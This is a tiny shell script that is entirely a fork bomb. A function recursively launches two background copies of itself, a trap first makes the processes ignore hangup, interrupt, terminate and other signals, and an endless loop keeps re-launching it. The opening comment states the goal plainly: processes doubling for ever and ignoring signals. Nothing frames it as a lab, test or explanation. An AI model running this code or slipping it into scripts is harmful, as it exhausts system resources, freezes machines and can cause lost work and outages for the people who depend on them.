# Every process becomes two, for ever, and none of them minds a signal.
trap '' HUP INT QUIT TERM USR1 USR2 ALRM PIPE
bomb() { bomb | bomb & }
bomb
while :; do bomb; done
